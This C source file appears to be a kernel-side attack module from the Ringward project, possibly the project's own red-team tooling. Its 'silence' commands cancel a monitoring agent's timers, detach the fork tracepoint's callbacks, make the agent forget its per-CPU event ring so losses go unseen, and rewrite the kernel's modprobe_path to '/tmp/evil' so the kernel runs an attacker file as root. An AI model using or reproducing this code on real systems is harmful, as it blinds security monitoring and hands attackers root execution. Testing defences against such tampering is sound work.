// SPDX-License-Identifier: GPL-2.0-or-later
// Copyright (C) 2026 The Ringward authors
// Silences the agent by its data and the kernel's.

#include <linux/hrtimer.h>
#include <linux/percpu.h>
#include <linux/smp.h>
#include <linux/string.h>
#include <linux/tracepoint.h>

#include "rwattack.h"

static void stop_here(void *timers)
{
	hrtimer_try_to_cancel(this_cpu_ptr((struct hrtimer __percpu *)timers));
}

/* Its timers never fire again. */
static int silence_beats(void)
{
	void *timers = (void *)symbol("ringward:timers");

	if (timers)
		on_each_cpu(stop_here, timers, 1);
	say("silence beats: %s\n", timers ? "stopped" : "no agent");
	return 0;
}

/* The kernel calls nobody at a fork any more. */
static int silence_forks(void)
{
	struct tracepoint *tp = (void *)symbol("__tracepoint_task_newtask");

	if (!tp)
		return -EINVAL;
	WRITE_ONCE(tp->funcs, NULL);
	say("silence forks: detached\n");
	return 0;
}

/* The kernel starts another program as root when it wants a module. */
static int silence_modprobe(void)
{
	char *path = (void *)symbol("modprobe_path");

	if (!path)
		return -EINVAL;
	strscpy(path, "/tmp/evil", 256);
	say("silence modprobe: replaced\n");
	return 0;
}

/* How the agent's per-CPU variable "rings" begins. */
struct agent_ring {
	void *hdr, *data;
	bool registered;
};

/* The agent believes that this CPU has no ring: it keeps nothing, and nothing shows a loss. */
static int silence_ring(void)
{
	struct agent_ring __percpu *rings = (void __percpu *)symbol("ringward:rings");

	if (rings)
		this_cpu_write(rings->registered, false);
	say("silence ring: %s\n", rings ? "forgotten" : "no agent");
	return 0;
}

int cmd_silence(int argc, char **argv)
{
	if (argc == 2 && strcmp(argv[1], "beats") == 0)
		return silence_beats();
	if (argc == 2 && strcmp(argv[1], "forks") == 0)
		return silence_forks();
	if (argc == 2 && strcmp(argv[1], "modprobe") == 0)
		return silence_modprobe();
	if (argc == 2 && strcmp(argv[1], "ring") == 0)
		return silence_ring();
	return -EINVAL;
}
